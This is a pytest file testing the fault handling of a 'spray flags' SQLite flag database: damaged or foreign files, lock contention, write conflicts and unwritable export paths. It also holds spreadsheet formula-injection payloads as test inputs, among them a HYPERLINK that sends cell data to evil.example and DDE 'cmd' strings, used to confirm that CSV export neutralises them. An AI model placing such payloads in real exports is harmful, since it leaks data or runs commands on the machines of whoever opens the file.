"""Fault cases of the flag database and ``spray flags``: every one exits with its code and names the file to fix.

Nothing flagged is ever lost: a damaged database is refused, never repaired or replaced, and its bytes are
unchanged afterwards. Readers never take the write lock, so ``spray flags list`` answers while a writer
holds it (it used to wait 30 s and die).
"""

from __future__ import annotations

import errno
import io
import json
import logging
import os
import sqlite3
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest

from spray.errors import DataError, LockedError
from spray.flags import FlagConflict, FlagStore, frame_to_bytes, neutralise_formula
from tests.faults.cli import assert_clean_failure, run_main


@pytest.fixture(autouse=True)
def _fresh_log_handlers() -> Iterator[None]:
    """``spray.cli.main`` points the root logger at this test's captured stderr: drop it afterwards, so a
    later test's log lines do not go to a closed stream (a "Logging error" traceback in its output)."""
    yield
    logging.getLogger().handlers[:] = []


@pytest.fixture
def db(tmp_path: Path) -> Path:
    path = tmp_path / "flags.sqlite"
    store = FlagStore(path)
    store.flag("d", [str(i) for i in range(3000)], "unlearn", "corner stamp", author="ana")
    store.flag("d", ["x"], "ok", author="bo")
    return path


def _garbage(path: Path) -> Path:
    path.write_bytes(b"this is not a database\x00" * 64)
    return path


@pytest.mark.parametrize(
    "command", [["flags", "list"], ["flags", "export"], ["flags", "export", "--format", "json"]]
)
def test_garbage_database_is_named_and_left_alone(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: list[str]
) -> None:
    bad = _garbage(tmp_path / "flags.sqlite")
    before = bad.read_bytes()
    res = run_main([*command, "--db", str(bad)], capsys)
    assert_clean_failure(res, 1, str(bad), "damaged or not a SQLite file", ".damaged")
    assert bad.read_bytes() == before  # refused, never "repaired" or replaced


@pytest.mark.parametrize("writer", [False, True])
def test_a_file_that_is_no_database_is_not_advised_aside(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], writer: bool
) -> None:
    """An outside check: ``spray correct --flags-db demo.yaml`` advised ``mv demo.yaml demo.yaml.damaged``."""
    config = tmp_path / "demo.yaml"
    config.write_text("model:\n  architecture: vit\n")
    before = config.read_bytes()
    with pytest.raises(DataError) as e:
        FlagStore(config, read_only=not writer)
    said = str(e.value)
    assert f"{config} is not a flag database: it is not a SQLite file" in said and "--flags-db" in said
    assert ".damaged" not in said and "mv " not in said
    assert config.read_bytes() == before
    res = run_main(["flags", "list", "--db", str(config)], capsys)
    assert_clean_failure(res, 1, str(config), "is not a flag database")


@pytest.mark.parametrize("keep", [0.5, 0.2])
def test_truncated_database_fails_loudly_instead_of_listing_fewer_flags(
    db: Path, capsys: pytest.CaptureFixture[str], keep: float
) -> None:
    data = db.read_bytes()
    for side in (db.with_name(db.name + "-wal"), db.with_name(db.name + "-shm")):
        side.unlink(missing_ok=True)
    db.write_bytes(data[: int(len(data) * keep)])
    for command in (["flags", "list"], ["flags", "export", "--status", "all"]):
        res = run_main([*command, "--db", str(db)], capsys)
        assert_clean_failure(res, 1, str(db))


def test_empty_file_is_not_a_flag_database(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    empty = tmp_path / "flags.sqlite"
    empty.touch()
    res = run_main(["flags", "list", "--db", str(empty)], capsys)
    assert_clean_failure(res, 1, str(empty), "not a spray flag database")
    assert empty.stat().st_size == 0  # a reader creates no tables


def test_directory_as_database(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = tmp_path / "flags.sqlite"
    folder.mkdir()
    for command in (["flags", "list"], ["flags", "export"]):
        res = run_main([*command, "--db", str(folder)], capsys)
        assert_clean_failure(res, 1, str(folder), "is a folder")
    with pytest.raises(DataError, match="is a folder"):
        FlagStore(folder)


def test_foreign_sqlite_file_is_refused_not_extended(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    other = tmp_path / "app.sqlite"
    con = sqlite3.connect(other)
    con.execute("CREATE TABLE users (name TEXT)")
    con.commit()
    con.close()
    res = run_main(["flags", "list", "--db", str(other)], capsys)
    assert_clean_failure(res, 1, str(other), "not a spray flag database", "users")
    with pytest.raises(DataError, match="not a spray flag database"):
        FlagStore(other)  # a writer does not add its tables to someone else's database either
    con = sqlite3.connect(other)
    assert [r[0] for r in con.execute("SELECT name FROM sqlite_master")] == ["users"]
    con.close()
    # a review: a foreign file with an "events" table of its own (and no meta) was called damaged by readers
    events = tmp_path / "events.sqlite"
    with sqlite3.connect(events) as con:
        con.execute("CREATE TABLE events (id INTEGER PRIMARY KEY, x TEXT)")
    res = run_main(["flags", "list", "--db", str(events)], capsys)
    assert_clean_failure(res, 1, "not a spray flag database", "lacks spray's events table and current view")


def test_missing_database(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    missing = tmp_path / "nope.sqlite"
    for command in (["flags", "list"], ["flags", "export"]):
        res = run_main([*command, "--db", str(missing)], capsys)
        assert_clean_failure(res, 2, str(missing), "No flag database")
    assert not missing.exists()


def test_export_into_a_missing_folder_names_it(
    db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "no" / "such" / "folder" / "u.csv"
    res = run_main(["flags", "export", "--db", str(db), "-o", str(out)], capsys)
    assert_clean_failure(res, 2, str(out.parent), "does not exist")
    assert not out.parent.exists()


def test_export_onto_a_folder(db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    res = run_main(["flags", "export", "--db", str(db), "-o", str(tmp_path)], capsys)
    assert_clean_failure(res, 2, str(tmp_path), "is a folder")


@pytest.fixture
def writer_holding_the_lock(db: Path) -> Iterator[None]:
    """Another process's writer in the middle of a transaction (holds SQLite's write lock)."""
    con = sqlite3.connect(db, isolation_level=None, timeout=1)
    con.execute("BEGIN IMMEDIATE")
    con.execute(
        "INSERT INTO events (action_id, dataset, sample_id, status, created_at) VALUES ('a', 'd', 'y', 'ok', 't')"
    )
    try:
        yield
    finally:
        con.execute("ROLLBACK")
        con.close()


@pytest.mark.usefixtures("writer_holding_the_lock")
def test_list_and_export_answer_while_a_writer_holds_the_lock(
    db: Path, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    from spray import cli

    t = time.monotonic()
    assert cli.main(["flags", "list", "--db", str(db)]) == 0
    assert b"d: unlearn 3000, investigate 0, ok 1" in capsysbinary.readouterr().out
    out = tmp_path / "u.json"
    assert cli.main(["flags", "export", "--db", str(db), "--format", "json", "-o", str(out)]) == 0
    assert len(json.loads(out.read_text())) == 3000
    assert time.monotonic() - t < 10  # it used to wait the 30 s busy timeout and die


@pytest.mark.usefixtures("writer_holding_the_lock")
def test_opening_a_store_takes_no_write_lock_and_a_blocked_writer_says_locked(db: Path) -> None:
    t = time.monotonic()
    store = FlagStore(db, timeout=0.5)  # the schema is there: opening writes nothing
    assert store.counts("d") == {"unlearn": 3000, "ok": 1}
    with pytest.raises(LockedError, match=str(db)) as err:
        store.flag("d", ["1"], "ok")
    assert "nothing was written" in str(err.value)
    assert time.monotonic() - t < 10


def test_read_only_store_refuses_writes(db: Path) -> None:
    store = FlagStore(db, read_only=True)
    with pytest.raises(DataError, match="read-only"):
        store.flag("d", ["1"], "ok")
    assert store.counts("d") == {"unlearn": 3000, "ok": 1}


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("-5", "-5"),
        ("3.5", "3.5"),
        ("corner stamp", "corner stamp"),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(value: str, safe: str) -> None:
    assert neutralise_formula(value) == safe


def test_csv_export_neutralises_notes_keeps_ids_exact_json_and_parquet_keep_all(tmp_path: Path) -> None:
    """Text cells a spreadsheet would run are neutralised in CSV, but not the ids an unlearning job matches on
    (a class folder named '-minus' or '@at' is a legal id; a ``'`` added to it names no image)."""
    store = FlagStore(tmp_path / "f.sqlite")
    evil = '=HYPERLINK("http://evil.example/x","open")'
    store.flag("d", ["=1+1", "7", "-minus/1.png", "@at/2.png"], "unlearn", evil, author="@me")
    csv = pd.read_csv(io.BytesIO(store.export_bytes("csv", "d")), dtype=str, keep_default_na=False)
    assert set(csv["note"]) == {"'" + evil} and set(csv["author"]) == {"'@me"}
    assert set(csv["sample_id"]) == {"=1+1", "7", "-minus/1.png", "@at/2.png"}
    rest = csv.drop(columns=["dataset", "sample_id"]).to_numpy().ravel()
    assert not any(str(v).startswith(("=", "+", "@")) for v in rest)
    js = json.loads(store.export_bytes("json", "d"))
    assert {r["note"] for r in js} == {evil}
    assert {r["sample_id"] for r in js} == {"=1+1", "7", "-minus/1.png", "@at/2.png"}
    pq = pd.read_parquet(io.BytesIO(store.export_bytes("parquet", "d")))
    assert set(pq["note"]) == {evil}
    assert frame_to_bytes(store.export_frame("nothing"), "csv").startswith(b"dataset,sample_id")


def test_cli_csv_export_is_neutralised(tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    from spray import cli

    db = tmp_path / "f.sqlite"
    FlagStore(db).flag("d", ["1"], "unlearn", "=cmd|' /C calc'!A0")
    out = tmp_path / "u.csv"
    assert cli.main(["flags", "export", "--db", str(db), "-o", str(out)]) == 0
    assert "'=cmd" in out.read_text() and ",=cmd" not in out.read_text()


def test_a_decision_that_came_in_meanwhile_blocks_the_save_until_overridden(db: Path) -> None:
    ana, bo = FlagStore(db), FlagStore(db)
    seen = ana.last_event_id("d")
    bo.flag("d", ["5", "6"], "ok", "not a stamp", author="bo")
    with pytest.raises(FlagConflict) as err:
        ana.flag("d", ["5", "7"], "unlearn", author="ana", since=seen)
    assert {e.sample_id for e in err.value.events} == {"5"} and err.value.events[0].author == "bo"
    assert "bo" in str(err.value) and "nothing was written" in str(err.value)
    assert ana.status_of("d", ["5", "7"]) == {"5": "ok", "7": "unlearn"}  # unchanged
    # Samples nobody touched meanwhile pass; an explicit override (no `since`) is recorded with its author.
    ana.flag("d", ["8"], "investigate", author="ana", since=seen)
    ana.flag("d", ["5"], "unlearn", author="ana")
    assert ana.history("d", "5")[0].author == "ana" and ana.status_of("d", ["5"]) == {"5": "unlearn"}


def test_two_writers_with_conflict_checks_lose_nothing(tmp_path: Path) -> None:
    db = tmp_path / "f.sqlite"
    FlagStore(db)
    errors: list[BaseException] = []

    def session(name: str) -> None:
        s = FlagStore(db)
        try:
            for i in range(30):
                s.flag(
                    "d",
                    [f"{name}-{i}-{j}" for j in range(20)],
                    "unlearn",
                    author=name,
                    since=s.last_event_id("d"),
                )
        except BaseException as err:
            errors.append(err)

    threads = [threading.Thread(target=session, args=(n,)) for n in ("a", "b")]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    assert not errors  # disjoint samples never conflict
    assert FlagStore(db).counts("d") == {"unlearn": 1200}


def test_flags_db_in_a_missing_folder_via_runs_dir(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    res = run_main(["flags", "list", "--runs-dir", str(tmp_path / "typo")], capsys)
    assert_clean_failure(res, 2, str(tmp_path / "typo" / "flags.sqlite"))
    assert not (tmp_path / "typo").exists()


def test_no_database_given(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.chdir(tmp_path)
    res = run_main(["flags", "list"], capsys)
    assert_clean_failure(res, 2, "--db")


def test_unreadable_database_file(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    if os.geteuid() == 0:
        pytest.skip("root reads any file: the permission case cannot be built")
    db.chmod(0)
    try:
        res = run_main(["flags", "list", "--db", str(db)], capsys)
        assert_clean_failure(res, 1, str(db))
    finally:
        db.chmod(0o644)


def test_flags_export_into_a_read_only_folder_points_at_o(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The file of -o cannot be written: the fix is another -o, not the runs folder."""
    db = tmp_path / "flags.sqlite"
    FlagStore(db).flag("synthetic-fashion", ["a.png"], "unlearn")
    ro = tmp_path / "ro"
    ro.mkdir()
    if os.geteuid() == 0:  # root writes into a chmod-ed folder: the file system's answer is simulated

        def refused(*args: object, **kwargs: object) -> tuple[int, str]:
            raise OSError(errno.EROFS, "Read-only file system", str(ro))

        monkeypatch.setattr(tempfile, "mkstemp", refused)
    else:
        ro.chmod(0o555)
    res = run_main(["flags", "export", "--db", str(db), "-o", str(ro / "f.csv")], capsys)
    assert_clean_failure(
        res, 1, f"cannot write {ro / 'f.csv'}", "Point -o at a folder this user can write to"
    )
    assert "runs_dir" not in res.output and "--runs-dir" not in res.output.split("cannot write")[1]


@pytest.mark.parametrize("message", ["database or disk is full", "disk I/O error"])
def test_a_full_disk_is_named_and_the_database_not_advised_aside(
    db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, message: str
) -> None:
    """An outside check: on a full disk `spray flags list` called an intact database "damaged" and advised moving
    it aside to start an empty one (SQLite answers a read there with a disk I/O error)."""
    import shutil
    import sqlite3

    path = db
    usage = shutil.disk_usage(tmp_path)
    monkeypatch.setattr(shutil, "disk_usage", lambda p: usage._replace(free=4096))
    got = str(FlagStore(path)._fail(sqlite3.OperationalError(message)))
    assert "the disk it is on is full" in got and "not damaged" in got and ".damaged" not in got
    monkeypatch.setattr(shutil, "disk_usage", lambda p: usage._replace(free=2**40))
    if message == "disk I/O error":  # with room on the disk, an I/O error is what it says
        assert "damaged or not a SQLite file" in str(FlagStore(path)._fail(sqlite3.OperationalError(message)))
